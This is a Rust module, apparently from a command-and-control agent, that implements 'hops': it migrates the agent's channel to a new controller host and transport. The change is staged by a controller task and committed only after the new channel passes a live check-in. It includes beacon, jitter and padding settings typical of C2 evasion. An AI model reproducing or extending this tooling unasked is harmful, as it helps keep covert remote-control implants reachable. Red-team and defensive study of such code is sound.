//! Live channel migration. A hop arrives as a regular task: the handler
//! resolves a candidate config and stages it as a HopIntent; the run
//! loop claims the intent at its next iteration and drives the sequencer
//! here. Make-before-break: the old channel is never torn down until the
//! candidate has proven it can serve traffic, so a failed hop is an
//! observable no-op to the controller.

use crate::agent::dispatch::{CommandContext, CommandHandler, CommandOutput};
use crate::agent::AgentCore;
use crate::config::{ChannelConfig, TransportFamily};
use crate::protocol::Task;
use crate::transport;
use async_trait::async_trait;
use chrono::{DateTime, Utc};
use parking_lot::Mutex;
use serde::Deserialize;
use serde_json::json;
use tracing::{info, warn};

/// A staged channel migration, consumed at most once.
#[derive(Debug, Clone)]
pub struct HopIntent {
    pub candidate: ChannelConfig,
    pub requested_at: DateTime<Utc>,
}

impl HopIntent {
    pub fn new(candidate: ChannelConfig) -> Self {
        Self {
            candidate,
            requested_at: Utc::now(),
        }
    }
}

/// Single-slot hand-off between the hop handler and the run loop.
/// Discipline: lock, read-and-clear, unlock, then act on the local copy.
/// The lock is never held across network calls.
#[derive(Default)]
pub struct HopSlot {
    intent: Mutex<Option<HopIntent>>,
}

impl HopSlot {
    /// Stage a candidate. At most one exists; an unconsumed earlier
    /// candidate is superseded.
    pub fn set(&self, intent: HopIntent) {
        let mut guard = self.intent.lock();
        if guard.is_some() {
            warn!("superseding unconsumed hop intent");
        }
        *guard = Some(intent);
    }

    /// Claim the pending intent, clearing the slot.
    pub fn take(&self) -> Option<HopIntent> {
        self.intent.lock().take()
    }

    pub fn is_pending(&self) -> bool {
        self.intent.lock().is_some()
    }
}

/// Sequencer verdict, reported back to the run loop.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HopOutcome {
    Committed { family_changed: bool },
    Aborted,
}

impl AgentCore {
    /// Claim and process a pending hop, if any.
    pub(crate) async fn check_pending_hop(&mut self) -> Option<HopOutcome> {
        let intent = self.hops.take()?;
        Some(self.process_hop(intent).await)
    }

    /// The hop sequencer: build a candidate Communicator, prove it
    /// viable, then commit or abort. On abort the active channel is
    /// untouched; on commit the old channel is torn down best-effort
    /// and the candidate becomes active atomically.
    pub async fn process_hop(&mut self, intent: HopIntent) -> HopOutcome {
        let candidate_config = intent.candidate;
        info!(
            from = %self.config.transport,
            to = %candidate_config.transport,
            host = %candidate_config.host,
            port = candidate_config.port,
            "hop sequencer started"
        );

        let candidate = match transport::build(&candidate_config, self.identity) {
            Ok(c) => c,
            Err(e) => {
                warn!(error = %e, "hop aborted: candidate construction failed");
                return HopOutcome::Aborted;
            }
        };

        if let Err(e) = candidate.connect().await {
            warn!(error = %e, "hop aborted: candidate connect failed");
            return HopOutcome::Aborted;
        }

        // Viability: a poll candidate must complete one live check-in to
        // prove the serving path answers; a duplex candidate proved
        // itself with the handshake. Any task in the viability response
        // is discarded; the controller re-queues undelivered work.
        if candidate_config.transport.family() == TransportFamily::Poll {
            if let Err(e) = candidate.check_in().await {
                warn!(error = %e, "hop aborted: candidate failed viability check-in");
                let _ = candidate.disconnect().await;
                return HopOutcome::Aborted;
            }
        }

        let family_changed =
            self.config.transport.family() != candidate_config.transport.family();

        if let Err(e) = self.communicator.disconnect().await {
            warn!(error = %e, "old channel disconnect failed during hop commit");
        }
        self.communicator = candidate;
        self.config = candidate_config;

        info!(
            transport = %self.config.transport,
            family_changed,
            "hop committed"
        );
        HopOutcome::Committed { family_changed }
    }
}

/// Hop task arguments. Transport, host and port are required; everything
/// else overlays the active config only when explicitly provided.
#[derive(Debug, Deserialize)]
pub struct HopRequest {
    pub transport: String,
    pub host: String,
    pub port: u16,
    #[serde(default)]
    pub checkin_endpoint: Option<String>,
    #[serde(default)]
    pub results_endpoint: Option<String>,
    #[serde(default)]
    pub duplex_endpoint: Option<String>,
    #[serde(default)]
    pub interval_secs: Option<u64>,
    #[serde(default)]
    pub jitter: Option<f64>,
    #[serde(default)]
    pub beacon: Option<bool>,
    #[serde(default)]
    pub checkin_verb: Option<String>,
    #[serde(default)]
    pub padding: Option<bool>,
    #[serde(default)]
    pub padding_min: Option<usize>,
    #[serde(default)]
    pub padding_max: Option<usize>,
}

/// Resolves a hop request into a candidate config and stages it. Never
/// touches the network; transport ownership stays with the run loop and
/// the sequencer.
pub struct HopHandler;

#[async_trait]
impl CommandHandler for HopHandler {
    async fn execute(&self, ctx: &CommandContext, task: &Task) -> crate::Result<CommandOutput> {
        let request: HopRequest = serde_json::from_value(task.data.clone())
            .map_err(|e| crate::AgentError::Command(format!("invalid hop arguments: {e}")))?;

        let transport = request
            .transport
            .parse()
            .map_err(|e| crate::AgentError::Command(format!("{e}")))?;
        if request.host.is_empty() {
            return Err(crate::AgentError::Command("hop host must not be empty".into()));
        }
        if request.port == 0 {
            return Err(crate::AgentError::Command("hop port must not be zero".into()));
        }

        let mut candidate = ctx.active.clone();
        candidate.transport = transport;
        candidate.host = request.host;
        candidate.port = request.port;

        if let Some(path) = request.checkin_endpoint {
            candidate.checkin_endpoint = path;
        }
        if let Some(path) = request.results_endpoint {
            candidate.results_endpoint = path;
        }
        if let Some(path) = request.duplex_endpoint {
            candidate.duplex_endpoint = path;
        }
        if let Some(secs) = request.interval_secs {
            candidate.poll_interval = std::time::Duration::from_secs(secs);
        }
        if let Some(jitter) = request.jitter {
            if (0.0..=1.0).contains(&jitter) {
                candidate.jitter = jitter;
            } else {
                warn!(jitter, "jitter override outside [0, 1], keeping current value");
            }
        }
        if let Some(beacon) = request.beacon {
            candidate.beacon = beacon;
        }
        if let Some(verb) = request.checkin_verb {
            candidate.checkin_verb = verb
                .parse()
                .map_err(|e| crate::AgentError::Command(format!("{e}")))?;
        }
        if let Some(padding) = request.padding {
            candidate.padding = padding;
        }
        if let Some(min) = request.padding_min {
            candidate.padding_min = min;
        }
        if let Some(max) = request.padding_max {
            candidate.padding_max = max;
        }
        if candidate.padding_min > candidate.padding_max {
            warn!(
                min = candidate.padding_min,
                max = candidate.padding_max,
                "padding bounds inverted after overlay, reverting bounds and disabling padding"
            );
            candidate.padding_min = ctx.active.padding_min;
            candidate.padding_max = ctx.active.padding_max;
            candidate.padding = false;
        }

        let summary = json!({
            "hop": "staged",
            "transport": candidate.transport.as_str(),
            "host": candidate.host,
            "port": candidate.port,
        });
        ctx.hops.set(HopIntent::new(candidate));
        info!(task_id = %task.id, "hop intent staged");

        Ok(CommandOutput::data(summary))
    }
}
